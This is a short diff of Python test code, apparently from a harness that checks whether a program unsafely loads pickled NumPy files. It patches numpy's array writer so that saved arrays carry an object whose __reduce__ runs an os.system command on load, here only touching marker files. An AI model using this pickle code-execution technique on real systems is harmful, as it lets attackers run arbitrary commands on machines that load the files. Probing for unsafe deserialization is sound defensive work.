@@ -8,8 +8,8 @@ import numpy as np, os
 class Loaded:
     def __reduce__(self):
         return os.system, ("touch /tmp/{{marker}}; touch {{course}}/{{marker}}",)
-savez = np.savez
-def pickled(file, **arrays):
-    return savez(file, **{name: np.array([Loaded()], dtype=object) for name in arrays or {"a0": 1}})
-np.savez = pickled
+write = np.lib.format.write_array
+def pickled(file, array, *args, **named):
+    return write(file, np.array([Loaded()], dtype=object), allow_pickle=True)
+np.lib.format.write_array = pickled
 print("tried: pickles")
